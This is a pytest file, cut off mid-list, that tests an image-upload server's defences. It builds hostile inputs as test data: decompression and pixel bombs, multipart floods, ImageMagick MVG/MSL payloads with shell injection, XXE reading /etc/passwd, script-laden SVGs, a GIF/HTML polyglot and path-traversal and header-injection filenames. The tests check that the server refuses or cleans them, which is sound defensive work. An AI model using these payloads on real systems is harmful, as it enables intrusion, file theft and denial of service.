"""Security cases C.30-C.43 of spec/security-cases.md: file uploads, against a running server.

Bodies are written byte for byte where a client library would tidy them (multipart headers,
filenames, lengths). Images are made with pyvips or assembled chunk by chunk, and outputs are
probed, never compared as bytes.
"""

from __future__ import annotations

import gc
import os
import re
import secrets
import socket
import struct
import tempfile
import time
import uuid
import zlib
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import psycopg
import pytest
import pyvips
from sec_common import (
    METRICS_AUTH,
    Stub,
    add_variant,
    assert_api_error,
    check,
    flexible,
    launch,
    upload,
)

from harness import Server, add_account, dimensions, image_format, jpeg, png

BOUNDARY = "sEcUrItY"
CSP = "default-src 'none'; style-src 'unsafe-inline'; sandbox"


# --- building bodies and files ----------------------------------------------------------------


def part(name: str, content: bytes = b"", filename: str | bytes | None = None) -> bytes:
    disposition = f'form-data; name="{name}"'.encode()
    if filename is not None:
        raw = filename if isinstance(filename, bytes) else filename.encode("utf-8")
        disposition += b'; filename="' + raw + b'"'
    return (
        b"--"
        + BOUNDARY.encode()
        + b"\r\nContent-Disposition: "
        + disposition
        + (b"\r\n\r\n" + content + b"\r\n")
    )


END = f"--{BOUNDARY}--\r\n".encode()
FORM = f"multipart/form-data; boundary={BOUNDARY}"


def post_form(srv: Server, body: bytes, content_type: str = FORM) -> httpx.Response:
    with srv.client() as c:
        return c.post(srv.images_url, content=body, headers={"content-type": content_type})


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_declaring(width: int, height: int) -> bytes:
    """A valid PNG header for any size, with one tiny IDAT: a pixel flood in ~70 bytes."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def with_chunks(data: bytes, *extra: bytes) -> bytes:
    """A PNG with ``extra`` chunks right after IHDR (8-byte signature + 25-byte IHDR)."""
    return data[:33] + b"".join(extra) + data[33:]


def jpeg_declaring(width: int, height: int) -> bytes:
    """A JPEG whose frame header claims ``width`` x ``height`` (the scan is from a real one)."""
    data = jpeg(16, 16)
    sof = re.search(rb"\xff[\xc0\xc2]", data)
    assert sof is not None
    at = sof.start() + 5  # marker(2) length(2) precision(1), then height and width
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def webp_declaring(width: int, height: int) -> bytes:
    """A lossless WebP (VP8L) whose header claims ``width`` x ``height``."""
    bits = (width - 1) | ((height - 1) << 14)
    vp8l = b"\x2f" + struct.pack("<I", bits) + b"\x00" * 8
    body = b"WEBP" + b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l
    return b"RIFF" + struct.pack("<I", len(body)) + body


def solid(width: int, height: int, colour: tuple[int, int, int] = (200, 40, 40)) -> pyvips.Image:
    flat = pyvips.Image.black(width, height).new_from_image(list(colour))
    return flat.copy(interpretation="srgb")


def animation(frames: int, width: int, height: int) -> pyvips.Image:
    colours = [(40 * i % 256, 90, 200) for i in range(frames)]
    strip = pyvips.Image.arrayjoin([solid(width, height, c) for c in colours], across=1).copy()
    strip.set_type(pyvips.GValue.gint_type, "page-height", height)
    strip.set_type(pyvips.GValue.array_int_type, "delay", [100] * frames)
    return strip


def gif_with_comment(comment: bytes) -> bytes:
    """A valid GIF carrying ``comment`` in a Comment Extension: a GIF/HTML polyglot."""
    data = bytes(solid(24, 16).gifsave_buffer())
    flags = data[10]
    table = 3 * 2 ** ((flags & 7) + 1) if flags & 0x80 else 0
    at = 13 + table
    blocks = b"".join(
        bytes([len(comment[i : i + 255])]) + comment[i : i + 255]
        for i in range(0, len(comment), 255)
    )
    return data[:at] + b"\x21\xfe" + blocks + b"\x00" + data[at:]


# --- fixtures ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def stub() -> Iterator[Stub]:
    """A loopback host that hostile files point at: it must never be called."""
    server = Stub()
    yield server
    server.close()


@pytest.fixture
def spool(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """Where the in-process server spools large form parts while this test runs."""
    where = tmp_path / "spool"
    where.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(where))
    return where


def count_images(srv: Server) -> int:
    with srv.client() as c:
        return int(c.get(f"{srv.images_url}/stats").json()["result"]["count"]["current"])


def deleted_temp_fds() -> int:
    """Open descriptors of this process on unlinked temporary files (a leaked spool)."""
    count = 0
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if "(deleted)" in target and ("/tmp" in target or "spool" in target):
            count += 1
    return count


# --- C.30 size is counted on the stream -------------------------------------------------------


def exchange(srv: Server, head: bytes, body: Iterator[bytes] | bytes) -> tuple[bytes, float]:
    """Send a request by hand; return the response's status line and body, and how long the
    answer took. The body may stop being read early: write errors are expected then."""
    where = urlsplit(srv.base_url)
    started = time.monotonic()
    with socket.create_connection((where.hostname or "", where.port or 80), 30) as sock:
        sock.sendall(head)
        try:
            for piece in [body] if isinstance(body, bytes) else body:
                sock.sendall(piece)
        except OSError:
            pass
        data = b""
        while b"\r\n\r\n" not in data or len(data.partition(b"\r\n\r\n")[2]) < 10:
            try:
                more = sock.recv(65536)
            except OSError:
                break
            if not more:
                break
            data += more
    return data, time.monotonic() - started


def request_head(srv: Server, extra: str) -> bytes:
    return (
        f"POST /accounts/{srv.account_id}/images/v1 HTTP/1.1\r\nHost: x\r\n"
        f"Authorization: Bearer {srv.api_token}\r\nContent-Type: {FORM}\r\n{extra}\r\n"
    ).encode()


def test_c30_size_is_counted_on_the_stream(shared: Server, spool: Path) -> None:
    """C.30: over the limit by Content-Length (refused before the body is read), by a
    chunked body with no length, or with a length that understates the body: 413 or 400, no
    image, and no spooled temporary file left behind (by name or by open descriptor)."""
    srv = shared
    limit = 10 * 1024 * 1024
    images = count_images(srv)
    gc.collect()
    fds = deleted_temp_fds()
    lead = part("file", b"", "big.jpg")[: -len(b"\r\n")]

    declared, took = exchange(
        srv, request_head(srv, f"Content-Length: {limit * 3}\r\n"), lead + b"\xff" * 4096
    )
    assert declared.startswith(b"HTTP/1.1 413") and took < 5, declared[:200]

    def chunked() -> Iterator[bytes]:
        yield f"{len(lead):x}\r\n".encode() + lead + b"\r\n"
        piece = b"\xff" * 65536
        for _ in range(limit // len(piece) + 8):
            yield f"{len(piece):x}\r\n".encode() + piece + b"\r\n"
        yield b"0\r\n\r\n"

    flood, took = exchange(srv, request_head(srv, "Transfer-Encoding: chunked\r\n"), chunked())
    assert flood.startswith(b"HTTP/1.1 413") and took < 10, flood[:200]

    body = part("file", jpeg(50, 50), "a.jpg") + END
    short, _ = exchange(srv, request_head(srv, "Content-Length: 60\r\n"), body)
    assert short.startswith(b"HTTP/1.1 400"), short[:200]

    for answer in (declared, flood, short):
        assert b'"success":false' in answer and b"Traceback" not in answer
    gc.collect()
    assert list(spool.iterdir()) == []
    assert deleted_temp_fds() <= fds
    assert count_images(srv) == images
    assert not list((srv.data_dir / "blobs").rglob(".*.tmp"))


# --- C.31 multipart abuse -----------------------------------------------------------------------

IMG = jpeg(20, 20)
FILE_HEAD = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n'
#: The abuse, and the answers that bound it. Leading CR/LF before the first boundary and
#: anything after the closing one are ignored by the parser: the upload is then a normal one,
#: still within the size limit.
ABUSE = {
    "10k-empty-fields": b"".join(part(f"f{i}") for i in range(10_000)) + END,
    "1000-files": b"".join(part("file", IMG[:10], f"a{i}.jpg") for i in range(1000)) + END,
    "10MB-part-header": (
        FILE_HEAD.encode() + b"X-Big: " + b"a" * 10_485_760 + b"\r\n\r\n" + IMG + b"\r\n" + END
    ),
    "endless-header-lines": (
        FILE_HEAD.encode() + b"X-A: b\r\n" * 400_000 + b"\r\n" + IMG + b"\r\n" + END
    ),
    "huge-preamble": b"x" * (9 * 1024 * 1024) + b"\r\n" + part("file", IMG, "a.jpg") + END,
    "cr-preamble": b"\r" * (9 * 1024 * 1024) + part("file", IMG, "a.jpg") + END,
    "huge-epilogue": part("file", IMG, "a.jpg") + END + b"x" * (9 * 1024 * 1024),
    "lf-epilogue": part("file", IMG, "a.jpg") + END + b"\n" * (9 * 1024 * 1024),
    "200KB-text-field": part("id", b"a" * 200 * 1024) + part("file", IMG, "a.jpg") + END,
    "no-closing-boundary": part("file", IMG, "a.jpg"),
    "boundary-never-seen": b"just bytes, no boundary at all\r\n" * 1000,
}
BAD_TYPES = [
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=" + "b" * 5000,
    "multipart/form-data; boundary=a; boundary=b",
    "multipart/mixed; boundary=" + BOUNDARY,
    "image/jpeg",
    "text/html",
]


@pytest.mark.parametrize("name", list(ABUSE))
def test_c31_multipart_abuse_is_bounded(shared: Server, name: str) -> None:
    """C.31: field and file counts, part headers, preamble and epilogue are bounded; each
    abuse gets 400 or 413 at once (blank lines before the first boundary and bytes after
    the last are ignored, so those uploads succeed, within the size limit), and the server
    keeps serving."""
    started = time.monotonic()
    r = post_form(shared, ABUSE[name])
    took = time.monotonic() - started
    check(r, shared)
    if "epilogue" in name or name == "cr-preamble":
        assert r.status_code == 200, r.text
    else:
        assert r.status_code in (400, 413), r.text
        assert r.json()["success"] is False
    assert took < 5, f"{name} took {took:.1f} s"
    assert httpx.get(f"{shared.base_url}/healthz").status_code == 200


@pytest.mark.parametrize("content_type", BAD_TYPES)
def test_c31_malformed_boundaries_and_types(shared: Server, content_type: str) -> None:
    """C.31: a missing, empty, 5,000-character or repeated boundary, or a body that is not
    a form at all: 400 or 415, never a 500."""
    r = post_form(shared, part("file", IMG, "a.jpg") + END, content_type)
    check(r, shared)
    assert r.status_code in (400, 415), (content_type, r.status_code, r.text)


# --- C.32 the type comes from the bytes -------------------------------------------------------


def test_c32_type_comes_from_magic_bytes(shared: Server) -> None:
    """C.32: the client's filename and Content-Type are ignored; the stored and served type
    is the detected one, and bytes that are no allowed image are refused with 415."""
    srv = shared
    with srv.client() as c:
        r = c.post(srv.images_url, files={"file": ("x.jpg", png(40, 30), "text/html")})
        assert r.status_code == 200, r.text
        image_id = r.json()["result"]["id"]
        blob = c.get(f"{srv.images_url}/{image_id}/blob")
        assert blob.headers["content-type"] == "image/png"
        html = c.post(
            srv.images_url,
            files={"file": ("x.png", b"<html><script>alert(1)</script></html>", "image/png")},
        )
        assert_api_error(html, 415, 5455)
        jpeg_as_svg = c.post(srv.images_url, files={"file": ("x.svg", IMG, "image/svg+xml")})
        svg_as_txt = c.post(
            srv.images_url,
            files={
                "file": (
                    "payload.txt",
                    b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
                    b"<script>alert(1)</script><rect width='9' height='9'/></svg>",
                    "text/plain",
                )
            },
        )
    served = httpx.get(f"{srv.base_url}/{srv.account_hash}/{image_id}/public")
    assert served.headers["content-type"] == "image/png" and image_format(served.content) == "png"
    as_jpeg = jpeg_as_svg.json()["result"]["id"]
    r = httpx.get(f"{srv.base_url}/{srv.account_hash}/{as_jpeg}/public")
    assert r.headers["content-type"] == "image/jpeg"
    svg = svg_as_txt.json()["result"]["id"]
    r = httpx.get(f"{srv.base_url}/{srv.account_hash}/{svg}/public")
    assert r.headers["content-type"] == "image/svg+xml"
    assert b"<script" not in r.content and b"<rect" in r.content
    for answer in (blob, served, r):
        check(answer, srv)


# --- C.33 decoders outside the allowlist are never reached ----------------------------------

DANGEROUS = {
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(x) show\n",
    "ps": b"%!PS\n/Courier findfont 12 scalefont setfont\n",
    "pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    "fits": b"SIMPLE  =                    T" + b" " * 2850,
    "psd": b"8BPS\x00\x01" + b"\x00" * 40,
    "icns": b"icns\x00\x00\x01\x00" + b"\x00" * 40,
    "blp": b"BLP2" + b"\x00" * 40,
    "fli": b"\x00\x01\x00\x00\x11\xaf" + b"\x00" * 120,
    "mvg": b"push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'ephemeral:/x'\n",
    "msl": b'<?xml version="1.0"?>\n<image><read filename="/etc/passwd"/></image>',
    "tiff": bytes(pyvips.Image.black(8, 8).tiffsave_buffer()),
    "bmp": b"BM" + b"\x00" * 60,
    "ico": b"\x00\x00\x01\x00\x01\x00" + b"\x00" * 60,
    "jxl": b"\xff\x0a" + b"\x00" * 40,
    "jp2": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00" * 40,
    "ppm": b"P6\n8 8\n255\n" + b"\x00" * 192,
    "hdr": b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 8 +X 8\n" + b"\x00" * 64,
    "svgz": zlib.compress(b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
    "html": b"<!doctype html><script>alert(1)</script>",
    "empty": b"",
}


def test_c33_dangerous_decoders_are_unreachable(shared: Server) -> None:
    """C.33: formats outside JPEG, PNG, GIF, WebP, AVIF, HEIC and SVG are refused by their
    magic bytes (415) before any decoder sees them, whatever name and type they claim."""
    with shared.client() as c:
        for name, data in DANGEROUS.items():
            r = c.post(shared.images_url, files={"file": (f"x.{name}", data, "image/jpeg")})
            assert_api_error(r, 415, 5455)


# --- C.34, C.35 pixel floods ------------------------------------------------------------------


def max_rss_mb() -> float:
    import resource

    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


@pytest.mark.parametrize(
    "data",
    [
        png_declaring(65535, 65535),
        png_declaring(12001, 1),
        png_declaring(10001, 10000),
        jpeg_declaring(65500, 65500),
        webp_declaring(16383, 16383),
    ],
    ids=["png-65535-square", "png-12001-wide", "png-100MP-and-a-row", "jpeg-65500", "webp-16383"],
)
def test_c34_pixel_flood_refused_before_decoding(shared: Server, data: bytes) -> None:
    """C.34: a small file declaring a huge size is refused from its header alone (422), at
    once and without memory growth."""
    before = max_rss_mb()
    with shared.client() as c:
        started = time.monotonic()
        r = c.post(shared.images_url, files={"file": ("bomb", data)})
        took = time.monotonic() - started
    assert_api_error(r, 422, 5455)
    assert took < 2
    assert max_rss_mb() - before < 200


@pytest.fixture(scope="module")
def small_limit(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server whose pixel limit is 1 MP (frames summed), so bombs stay small here."""
    with launch(tmp_path_factory.mktemp("limit") / "data", max_image_pixels=1_000_000) as srv:
        yield srv


def test_c35_animated_bombs_count_every_frame(small_limit: Server) -> None:
    """C.35: frames are summed: eight 400x400 frames (1.28 MP) pass no 1 MP limit, as GIF or
    WebP, while one such frame does."""
    eight = animation(8, 400, 400)
    with small_limit.client() as c:
        for data in (bytes(eight.gifsave_buffer()), bytes(eight.webpsave_buffer())):
            assert_api_error(c.post(small_limit.images_url, files={"file": ("a", data)}), 422)
        one = bytes(animation(1, 400, 400).gifsave_buffer())
        assert c.post(small_limit.images_url, files={"file": ("a", one)}).status_code == 200


# --- C.36, C.37 corrupt and crafted files -------------------------------------------------------


def corrupt_files() -> dict[str, bytes]:
    good = png(64, 48)
    crc_bad = bytearray(good)
    idat = good.find(b"IDAT")
    length = struct.unpack(">I", good[idat - 4 : idat])[0]
    crc_bad[idat + 4 + length] ^= 0xFF
    ifd_loop = b"II*\x00\x08\x00\x00\x00\x01\x00\x00\x01\x03\x00\x01\x00\x00\x00\x08\x00" + (
        b"\x08\x00\x00\x00"  # the next IFD is this one again
    )
    ztxt = chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (10 * 1024 * 1024)))
    many_text = b"".join(chunk(b"tEXt", b"k%d\x00v" % i) for i in range(5000))
    return {
        "truncated-jpeg": jpeg(300, 200)[:1500],
        "truncated-png": png(300, 200)[:2000],
        "png-bad-crc": bytes(crc_bad),
        "tiff-ifd-loop": ifd_loop,
        "png-10MB-ztxt": with_chunks(good, ztxt),
        "png-5000-text-chunks": with_chunks(good, many_text),
        "jpeg-garbage-after-soi": b"\xff\xd8\xff" + os.urandom(3000),
        "gif-truncated": bytes(solid(64, 48).gifsave_buffer())[:60],
        "webp-truncated": bytes(solid(64, 48).webpsave_buffer())[:40],
        "png-header-only": png(64, 48)[:33],
    }


def test_c36_corrupt_files_are_client_errors(shared: Server) -> None:
    """C.36: every corrupt or truncated file ends in 415 or 422 (at upload, or at the first
    render when the damage is past the header), never a 500 or a half-decoded image."""
    srv = add_account(shared, "c36")
    with srv.client() as c:
        for name, data in corrupt_files().items():
            r = c.post(srv.images_url, files={"file": (name, data)})
            check(r, srv)
            assert r.status_code in (200, 415, 422), (name, r.status_code, r.text)
            if r.status_code != 200:
                continue
            image_id = r.json()["result"]["id"]
            served = httpx.get(f"{srv.base_url}/{srv.account_hash}/{image_id}/public")
            check(served, srv)
            assert served.status_code in (200, 422), (name, served.status_code)
            if served.status_code == 422:
                assert served.text == "ERROR 5455: The image could not be decoded"
                assert served.headers["cache-control"] == "no-store"
            else:
                image_format(served.content)  # a whole, decodable image


def test_c37_crafted_payloads_for_image_libraries(shared: Server, stub: Stub) -> None:
    """C.37: libvips decodes with fail_on=error, so a damaged PNG gives an error, not an
    image made of uninitialised memory; a tEXt ``profile`` naming a file reads nothing
    (CVE-2022-44268); ImageMagick scripts (MVG, MSL) are refused before any decoder, fetch
    nothing and delete nothing (CVE-2016-3714/3715)."""
    srv = add_account(shared, "c37")
    canary = srv.data_dir.parent / "c37-canary.txt"
    canary.write_text("root:x:0:0:canary")
    hits = len(stub.hits)
    leak = with_chunks(png(64, 48), chunk(b"tEXt", b"profile\x00" + str(canary).encode()))
    with srv.client() as c:
        r = c.post(srv.images_url, files={"file": ("p.png", leak)}, data={"id": "leak"})
        assert r.status_code == 200
        for variant in ("public",):
            out = httpx.get(f"{srv.base_url}/{srv.account_hash}/leak/{variant}")
            assert out.status_code == 200 and b"canary" not in out.content
        scripts = {
            "x.jpg": b"push graphic-context\nviewbox 0 0 9 9\n"
            + f"fill 'url({stub.origin}/mvg\"|touch \"/tmp/pwn)'\n".encode()
            + f"image over 0,0 0,0 'ephemeral:{canary}'\npop graphic-context\n".encode(),
            "y.jpg": f'<?xml version="1.0"?><image><read filename="{stub.origin}/msl.png"/>'
            f'<write filename="{canary}"/></image>'.encode(),
        }
        for name, data in scripts.items():
            assert_api_error(c.post(srv.images_url, files={"file": (name, data)}), 415, 5455)
        truncated = png(300, 200)[:3000]
        r = c.post(srv.images_url, files={"file": ("t.png", truncated)}, data={"id": "cut"})
        assert r.status_code == 200
    out = httpx.get(f"{srv.base_url}/{srv.account_hash}/cut/public")
    assert out.status_code == 422 and out.headers["content-type"].startswith("text/plain")
    assert canary.read_text() == "root:x:0:0:canary"
    assert len(stub.hits) == hits


# --- C.38 variants cannot be bombs ------------------------------------------------------------


def test_c38_variant_definitions_cannot_be_bombs(shared: Server) -> None:
    """C.38: variant sides are whole pixels in 1..12,000 (400 otherwise), and an output past
    the pixel limit (a 12,000 x 12,000 pad, doubled by dpr) is refused before any pixel is
    made, for named and flexible variants alike."""
    srv = add_account(shared, "c38")
    with srv.client() as c:
        for options in (
            {"width": 0, "height": 10},
            {"width": -1, "height": 10},
            {"width": 100_000, "height": 10},
            {"width": 10.5, "height": 10},
            {"fit": "pad", "width": 20_000, "height": 20_000},
            {"width": 10},
            {"width": 10, "height": 10, "dpr": 3},
            {"width": 10, "height": 10, "dpr": 0},
        ):
            body = {"id": "bomb", "options": {"fit": "scale-down", **options}}
            assert_api_error(c.post(f"{srv.images_url}/variants", json=body), 400, 5400)
    add_variant(srv, "huge", fit="pad", width=12000, height=12000, dpr=2)
    upload(srv, jpeg(60, 40), id="small")
    flexible(srv)
    base = f"{srv.base_url}/{srv.account_hash}/small"
    for last in ("huge", "w=12000,h=12000,fit=pad", "w=9000,h=9000,fit=cover,dpr=2"):
        started = time.monotonic()
        r = httpx.get(f"{base}/{last}")
        check(r, srv)
        assert r.status_code == 422 and r.text == "ERROR 5455: Image dimensions are over the limit"
        assert time.monotonic() - started < 2
    for options in ("w=100000", "w=0", "w=-1", "h=12001", "dpr=3", "w=10,w=10000"):
        r = httpx.get(f"{base}/{options}")
        check(r, srv)
        assert r.status_code == 403 and r.text.startswith("ERROR 9426:"), options


# --- C.39 metadata stripping ------------------------------------------------------------------

SECRETS = (b"Canon", b"SN-98765", b"XMPSECRET", b"IPTCSECRE", b"PNGTEXTSECRET", b"51/1")


def phone_jpeg() -> bytes:
    """300x200 stored sideways (Orientation 6) with GPS, make, model, serial, XMP and IPTC."""
    image = solid(300, 200).copy()
    for name, value in {
        "exif-ifd0-Make": "Canon",
        "exif-ifd0-Model": "EOS 5D",
        "exif-ifd2-BodySerialNumber": "SN-98765",
        "exif-ifd3-GPSLatitudeRef": "N",
        "exif-ifd3-GPSLatitude": "51/1 30/1 0/1",
    }.items():
        image.set_type(pyvips.GValue.gstr_type, name, value)
    image.set_type(pyvips.GValue.gint_type, "orientation", 6)
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
        b'22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" '
        b'dc:creator="XMPSECRET"/></rdf:RDF></x:xmpmeta>'
    )
    image.set_type(pyvips.GValue.blob_type, "xmp-data", xmp)
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x0e\x1c\x02\x50\x00\x09IPTCSECRE"
    image.set_type(pyvips.GValue.blob_type, "iptc-data", iptc)
    data = bytes(image.jpegsave_buffer())
    assert all(s in data for s in SECRETS[:4])
    return data


def text_png() -> bytes:
    itxt = b"Comment\x00\x00\x00en\x00\x00PNGTEXTSECRET"
    return with_chunks(
        png(80, 60),
        chunk(b"tEXt", b"Author\x00PNGTEXTSECRET"),
        chunk(b"iTXt", itxt),
        chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"PNGTEXTSECRET")),
    )


def test_c39_metadata_is_stripped_after_orientation(shared: Server) -> None:
    """C.39: what viewers get carries no GPS, camera make, model or serial, XMP, IPTC or PNG
    text, on the no-op path (an image smaller than the variant) and on a resize, in every
    output format; the orientation is applied to the pixels first."""
    srv = add_account(shared, "c39")
    upload(srv, phone_jpeg(), id="phone")
    upload(srv, text_png(), id="text")
    add_variant(srv, "small", width=100, height=100)
    flexible(srv)
    for image_id, variant, accept, size in (
        ("phone", "public", "image/jpeg", (200, 300)),
        ("phone", "small", "image/jpeg", (67, 100)),
        ("phone", "small", "image/webp", (67, 100)),
        ("phone", "small", "image/avif", (67, 100)),
        ("phone", "w=150,f=png", "*/*", (150, 225)),
        ("text", "public", "image/png", (80, 60)),
        ("text", "small", "image/webp", (80, 60)),
    ):
        r = httpx.get(
            f"{srv.base_url}/{srv.account_hash}/{image_id}/{variant}", headers={"Accept": accept}
        )
        check(r, srv)
        assert r.status_code == 200, (image_id, variant, r.text[:100])
        for secret in SECRETS:
            assert secret not in r.content, (image_id, variant, accept, secret)
        out = pyvips.Image.new_from_buffer(r.content, "")
        assert (out.width, out.height) == size, (image_id, variant, accept)
        fields = out.get_fields()
        assert not [f for f in fields if "GPS" in f or "Make" in f or "Serial" in f]
        assert "xmp-data" not in fields and "iptc-data" not in fields
        assert not [f for f in fields if f.startswith("png-comment")]
        if "orientation" in fields:
            assert out.get("orientation") == 1


# --- C.40, C.41 SVG and polyglots ---------------------------------------------------------------


def hostile_svgs(origin: str) -> dict[str, bytes]:
    ns = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    svg = f'<svg {ns} width="40" height="30" onload="alert(1)">'
    body = (
        "<script>alert(document.cookie)</script>"
        f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        f'src="{origin}/iframe"/></foreignObject>'
        f'<use href="{origin}/sprite.svg#a"/><use xlink:href="{origin}/x.svg#b"/>'
        f'<image href="{origin}/image.png" width="9" height="9"/>'
        '<a href="javascript:alert(2)"><text x="1" y="9">hi</text></a>'
        f'<rect width="9" height="9" style="fill:url({origin}/css)"/>'
        f"<style>@import url({origin}/import.css); .x{{background:url({origin}/bg)}}</style>"
        '<rect class="x" width="40" height="30" fill="#c33"/>'
    )
    return {
        "everything": f"{svg}{body}</svg>".encode(),
        "xxe": (
            f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            f"<svg {ns}><text>&xxe;</text></svg>"
        ).encode(),
        "xxe-http": (
            f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{origin}/xxe">]><svg {ns}><text>&x;</text></svg>'
        ).encode(),
        "billion-laughs": (
            '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
            + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(8))
            + f"]><svg {ns}><text>&i;</text></svg>"
        ).encode(),
        "parameter-entity": (
            f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{origin}/dtd">%p;]><svg {ns}/>'
        ).encode(),
        "external-dtd": (
            f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{origin}/svg11.dtd">'
            f'<svg {ns} width="9" height="9"><rect width="9" height="9"/></svg>'
        ).encode(),
        "stylesheet-pi": (
            f'<?xml-stylesheet href="{origin}/pi.css"?><svg {ns} width="9" height="9"/>'
        ).encode(),
    }


HOSTILE_TOKENS = (b"<script", b"onload", b"javascript:", b"foreignObject", b"iframe", b"127.0.0.1")


def test_c40_hostile_svg_is_sanitised_or_refused(shared: Server, stub: Stub) -> None:
    """C.40: scripts, handlers, foreignObject, external references, CSS url() and imports are
    removed; DOCTYPEs with entities (XXE, billion laughs, parameter entities) are refused
    (415/422). Nothing is fetched while parsing or rendering, and no file's contents appear."""
    srv = add_account(shared, "c40")
    hits = len(stub.hits)
    with srv.client() as c:
        for name, data in hostile_svgs(stub.origin).items():
            started = time.monotonic()
            r = c.post(srv.images_url, files={"file": (f"{name}.svg", data)})
            assert time.monotonic() - started < 2
            check(r, srv)
            if name.startswith(("xxe", "billion", "parameter")):
                # A DOCTYPE with an internal subset is not even taken for an SVG (415); past
                # that, the sanitiser refuses any entity (422).
                assert r.status_code in (415, 422)
                assert_api_error(r, r.status_code, 5455)
                continue
            assert r.status_code == 200, (name, r.text)
            image_id = r.json()["result"]["id"]
            served = httpx.get(f"{srv.base_url}/{srv.account_hash}/{image_id}/public")
            check(served, srv)
            assert served.status_code == 200
            assert served.headers["content-type"] == "image/svg+xml"
            assert served.headers["x-content-type-options"] == "nosniff"
            for token in HOSTILE_TOKENS:
                assert token not in served.content, (name, token)
            assert b"root:" not in served.content
    assert len(stub.hits) == hits, stub.hits[hits:]


def test_c40_svg_is_delivered_under_a_sandbox_csp(shared: Server) -> None:
    """C.40: a delivered SVG carries ``Content-Security-Policy: default-src 'none';
    style-src 'unsafe-inline'; sandbox``, so even opened as a page it runs nothing."""
    srv = add_account(shared, "c40csp")
    image = upload(srv, b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>')
    r = httpx.get(f"{srv.base_url}/{srv.account_hash}/{image['id']}/public")
    assert r.status_code == 200 and r.headers["content-type"] == "image/svg+xml"
    assert r.headers.get("content-security-policy") == CSP


def test_c40_svg_original_from_blob_is_inert(shared: Server) -> None:
    """C.40/C.41: ``/blob`` returns the original bytes, unsanitised, so they go out typed,
    unsniffable and under a sandbox CSP with no sources."""
    srv = add_account(shared, "c40blob")
    data = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)">'
        b"<script>alert(document.domain)</script></svg>"
    )
    image = upload(srv, data, filename="x.svg")
    with srv.client() as c:
        r = c.get(f"{srv.images_url}/{image['id']}/blob")
    check(r, srv)
    assert r.status_code == 200 and r.content == data
    assert r.headers["content-type"] == "image/svg+xml"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-security-policy"] == CSP
    assert r.headers["cache-control"] == "private, no-store"


def test_c41_polyglot_is_served_only_as_its_image_type(shared: Server) -> None:
    """C.41: a GIF that is also HTML, uploaded as ``x.html`` with ``text/html``, is stored
    and served as image/gif with nosniff: re-encoded on delivery (the HTML is gone), and as
    uploaded, but inert, from ``/blob``. Nothing is ever answered as text/html."""
    srv = add_account(shared, "c41")
    html = b"<html><body><script>alert(document.domain)</script></body></html>"
    data = gif_with_comment(html)
    assert html in data and dimensions(data) == (24, 16)
    with srv.client() as c:
        r = c.post(srv.images_url, files={"file": ("x.html", data, "text/html")})
        assert r.status_code == 200, r.text
        assert r.headers["content-type"] == "application/json"
        image_id = r.json()["result"]["id"]
        blob = c.get(f"{srv.images_url}/{image_id}/blob")
    served = httpx.get(f"{srv.base_url}/{srv.account_hash}/{image_id}/public")
    for answer in (served, blob):
        check(answer, srv)
        assert answer.headers["content-type"] == "image/gif"
        assert answer.headers["x-content-type-options"] == "nosniff"
    assert b"<script" not in served.content
    assert blob.headers["content-security-policy"] == CSP


# --- C.42 client filenames and metadata ---------------------------------------------------------

FILENAMES = {
    "traversal": b"../../etc/cron.d/x",
    "windows": b"..\\..\\windows\\system32\\x.jpg",
    "nul": b"a\x00.png",
    "long": b"x" * 4096 + b".png",
    "bidi": "evil\u202egnp.exe".encode(),
    "zero-width": "a\u200bb\ufeff.jpg".encode(),
    "php-nul": b"x.php%00.jpg",
    "double-ext": b"x.jpg.php",
    "header-break": b'"\r\nSet-Cookie: a=b\r\nX-Evil: 1',
